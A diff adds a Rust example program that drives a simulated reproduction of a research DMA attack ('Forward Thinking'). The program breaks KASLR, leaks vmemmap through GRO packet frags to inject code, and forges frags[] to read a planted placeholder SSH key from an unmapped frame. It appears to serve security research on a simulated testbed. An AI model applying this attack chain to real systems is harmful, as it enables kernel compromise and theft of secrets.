@@ -1,0 +1,53 @@
+//! The Forward Thinking compound attack (§5.5, Figure 9): GRO fills the
+//! forwarded packet's `frags[]` with `struct page` pointers of the
+//! attacker's own payload pages — plus the surveillance variant that
+//! reads arbitrary physical frames by forging `frags[]`.
+//!
+//! Run with: `cargo run --example forward_thinking`
+
+use dma_lab::attacks::forward_thinking;
+use dma_lab::attacks::image::KernelImage;
+use dma_lab::attacks::ringflood::break_kaslr;
+use dma_lab::dma_core::vuln::WindowPath;
+use dma_lab::dma_core::Kva;
+
+fn main() -> Result<(), Box<dyn std::error::Error>> {
+    let image = KernelImage::build(1, 16 << 20);
+
+    println!("== Code injection on a forwarding box (Figure 9) ==");
+    let report = forward_thinking::run(&image, WindowPath::DeferredIotlb, 11)?;
+    println!(
+        "  vmemmap base learned from GRO frag: {:?}",
+        report.knowledge.vmemmap_base.unwrap()
+    );
+    println!("  poison KVA recovered: {:?}", report.poison_kva.unwrap());
+    println!("  outcome: {:?}", report.outcome);
+    assert!(report.outcome.succeeded());
+
+    println!("\n== Surveillance variant: reading arbitrary pages ==");
+    let mut tb = forward_thinking::boot(WindowPath::UnmapAfterBuild, 31)?;
+    tb.mem.install_text(&image.bytes);
+    let knowledge = break_kaslr(&mut tb)?;
+    let knowledge = forward_thinking::leak_vmemmap(&mut tb, &knowledge)?;
+
+    // The kernel keeps a secret in some random buffer...
+    let secret = tb.mem.kmalloc(&mut tb.ctx, 4096, "keyring_payload")?;
+    tb.mem.cpu_write(
+        &mut tb.ctx,
+        Kva(secret.raw() + 64),
+        b"ssh-private-key-bytes",
+        "keyring",
+    )?;
+    let target = tb.mem.layout.kva_to_pfn(secret)?;
+    println!("  target frame: {target} (never DMA-mapped by the kernel)");
+
+    let stolen = forward_thinking::surveil(&mut tb, &knowledge, target, 64, 21)?;
+    println!(
+        "  device read via forged frags[]: {:?}",
+        String::from_utf8_lossy(&stolen.stolen)
+    );
+    assert_eq!(&stolen.stolen, b"ssh-private-key-bytes");
+
+    println!("\nok: Forward Thinking + surveillance demonstrated");
+    Ok(())
+}
